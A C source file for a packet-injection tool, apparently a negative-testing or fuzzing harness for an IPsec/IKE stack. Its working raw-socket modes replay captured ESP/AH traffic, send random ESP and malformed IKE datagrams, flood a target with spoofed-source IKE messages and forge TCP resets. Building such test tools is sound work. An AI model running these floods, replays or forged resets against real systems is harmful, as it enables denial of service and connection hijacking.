/*
 * Packets that no honest program sends:
 *	nt_inject replay FILE SOURCE	the ESP and AH packets of a capture that came from
 *					SOURCE (IPv4), once more
 *	nt_inject esp SOURCE DEST N	N packets of ESP with random SPIs
 *	nt_inject ike DEST N		N random datagrams to UDP port 500
 *	nt_inject flood FILE RATE SECONDS	the first message of IKE in a capture, RATE times a
 *					second from everywhere in 172.16.0.0/12
 *	nt_inject tcp SOURCE PORT DEST PORT SEQ	a TCP reset in clear
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define ETHERNET_BYTES 14

static void
die(const char *what)
{
	perror(what);
	exit(1);
}

static struct in_addr
address(const char *text)
{
	struct in_addr a;

	if (inet_pton(AF_INET, text, &a) != 1) {
		fprintf(stderr, "\"%s\" is not an IPv4 address\n", text);
		exit(2);
	}
	return a;
}

static int
raw_socket(void)
{
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (s == -1)
		die("raw socket");
	return s;
}

/* A whole IPv4 packet; the kernel fills in length and checksum. */
static void
send_packet(int s, const void *packet, size_t n)
{
	struct sockaddr_in to = { .sin_family = AF_INET };

	memcpy(&to.sin_addr, (const char *)packet + 16, 4);
	if (sendto(s, packet, n, 0, (struct sockaddr *)&to, sizeof(to)) != (ssize_t)n)
		die("sendto");
}

static bool
is_protected(const unsigned char *ip, size_t n, struct in_addr source)
{
	return n >= 20 && ip[0] >> 4 == 4 && (ip[9] == IPPROTO_ESP || ip[9] == IPPROTO_AH) &&
	    memcmp(ip + 12, &source, 4) == 0;
}

static int
replay(const char *file, struct in_addr source)
{
	unsigned char head[24], packet[65536];
	uint32_t record[4];
	FILE *f = fopen(file, "r");
	int sent = 0, s = raw_socket();

	if (f == NULL || fread(head, sizeof(head), 1, f) != 1)
		die(file);
	while (fread(record, sizeof(record), 1, f) == 1) {
		size_t n = record[2];

		if (n > sizeof(packet) || fread(packet, n, 1, f) != 1)
			break;
		if (n < ETHERNET_BYTES ||
		    !is_protected(packet + ETHERNET_BYTES, n - ETHERNET_BYTES, source))
			continue;
		send_packet(s, packet + ETHERNET_BYTES, n - ETHERNET_BYTES);
		sent++;
	}
	fclose(f);
	printf("%d\n", sent);
	return sent > 0 ? 0 : 1;
}

/* The first message to port 500 that begins a negotiation (there is no responder cookie yet:
 * something older may be sent again), as a whole IPv4 packet; its length. */
static size_t
first_message(const char *file, unsigned char packet[65536])
{
	unsigned char head[24];
	static const unsigned char no_cookie[8];
	uint32_t record[4];
	FILE *f = fopen(file, "r");

	if (f == NULL || fread(head, sizeof(head), 1, f) != 1)
		die(file);
	while (fread(record, sizeof(record), 1, f) == 1 && record[2] <= 65536 &&
	       fread(packet, record[2], 1, f) == 1) {
		unsigned char *ip = packet + ETHERNET_BYTES;

		if (record[2] < ETHERNET_BYTES + 28 + 28 || ip[0] != 0x45 ||
		    ip[9] != IPPROTO_UDP || ip[22] != 500 / 256 || ip[23] != 500 % 256 ||
		    memcmp(ip + 28 + 8, no_cookie, sizeof(no_cookie)) != 0)
			continue;
		fclose(f);
		memmove(packet, ip, record[2] - ETHERNET_BYTES);
		return record[2] - ETHERNET_BYTES;
	}
	fprintf(stderr, "no message in %s\n", file);
	exit(1);
}

static uint64_t
now_ns(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000000u + (uint64_t)t.tv_nsec;
}

/* Says how many it sent. */
static void
flood(const char *file, uint64_t rate, uint64_t seconds)
{
	static unsigned char packet[65536];
	size_t n = first_message(file, packet);
	uint64_t start = now_ns(), sent = 0, due;
	int s = raw_socket();

	packet[26] = packet[27] = 0; /* no UDP checksum */
	while (now_ns() - start < seconds * 1000000000u) {
		due = (now_ns() - start) / 1000 * rate / 1000000;
		if (sent >= due)
			usleep(1000);
		for (; sent < due; sent++) {
			if (getrandom(packet + 13, 3, 0) != 3 || getrandom(packet + 28, 8, 0) != 8)
				die("getrandom");
			packet[12] = 172;
			packet[13] = 16 | (packet[13] & 15);
			send_packet(s, packet, n);
		}
	}
	printf("%llu\n", (unsigned long long)sent);
}

static struct ip
ip_header(struct in_addr source, struct in_addr dest, uint8_t protocol)
{
	struct ip h = { .ip_v = 4, .ip_hl = 5, .ip_ttl = 64, .ip_p = protocol };

	h.ip_src = source;
	h.ip_dst = dest;
	return h;
}

static void
send_esp(struct in_addr source, struct in_addr dest, int count)
{
	struct ip h = ip_header(source, dest, IPPROTO_ESP);
	unsigned char packet[20 + 80];
	int s = raw_socket();

	memcpy(packet, &h, sizeof(h));
	while (count-- > 0) {
		if (getrandom(packet + 20, 80, 0) != 80)
			die("getrandom");
		packet[20] |= 1; /* SPIs below 256 are reserved */
		send_packet(s, packet, sizeof(packet));
	}
}

static void
send_ike(struct in_addr dest, int count)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(500) };
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	unsigned char data[1024];

	to.sin_addr = dest;
	for (int i = 0; i < count; i++) {
		size_t n = (size_t)i * 7 % sizeof(data);

		if (getrandom(data, sizeof(data), 0) != sizeof(data))
			die("getrandom");
		if (i % 2 == 1 && n >= 28) { /* every other one has a fair header */
			uint32_t length = htonl((uint32_t)n);

			memset(data + 8, 0, 8);
			data[16] = 1;
			data[17] = 0x10;
			data[18] = 243;
			data[19] = 0;
			memset(data + 20, 0, 4);
			memcpy(data + 24, &length, 4);
		}
		if (sendto(s, data, n, 0, (struct sockaddr *)&to, sizeof(to)) != (ssize_t)n)
			die("sendto");
	}
}

static uint16_t
tcp_checksum(const struct ip *h, const struct tcphdr *t)
{
	uint16_t words[6 + sizeof(*t) / 2] = { 0 };
	uint32_t sum = 0;

	memcpy(words, &h->ip_src, 8);
	words[4] = htons(IPPROTO_TCP);
	words[5] = htons(sizeof(*t));
	memcpy(words + 6, t, sizeof(*t));
	for (size_t i = 0; i < sizeof(words) / sizeof(words[0]); i++)
		sum += words[i];
	while (sum >> 16 != 0)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void
send_reset(struct in_addr source, int from, struct in_addr dest, int to, uint32_t seq)
{
	struct ip h = ip_header(source, dest, IPPROTO_TCP);
	struct tcphdr t = { .th_off = 5, .th_flags = TH_RST };
	unsigned char packet[40];

	t.th_sport = htons((uint16_t)from);
	t.th_dport = htons((uint16_t)to);
	t.th_seq = htonl(seq);
	t.th_sum = tcp_checksum(&h, &t);
	memcpy(packet, &h, 20);
	memcpy(packet + 20, &t, 20);
	send_packet(raw_socket(), packet, sizeof(packet));
}

int
main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";

	if (strcmp(verb, "replay") == 0 && argc == 4)
		return replay(argv[2], address(argv[3]));
	if (strcmp(verb, "esp") == 0 && argc == 5)
		send_esp(address(argv[2]), address(argv[3]), atoi(argv[4]));
	else if (strcmp(verb, "ike") == 0 && argc == 4)
		send_ike(address(argv[2]), atoi(argv[3]));
	else if (strcmp(verb, "flood") == 0 && argc == 5)
		flood(argv[2], strtoul(argv[3], NULL, 10), strtoul(argv[4], NULL, 10));
	else if (strcmp(verb, "tcp") == 0 && argc == 7)
		send_reset(address(argv[2]), atoi(argv[3]), address(argv[4]), atoi(argv[5]),
		    (uint32_t)strtoul(argv[6], NULL, 10));
	else
		return 2;
	return 0;
}
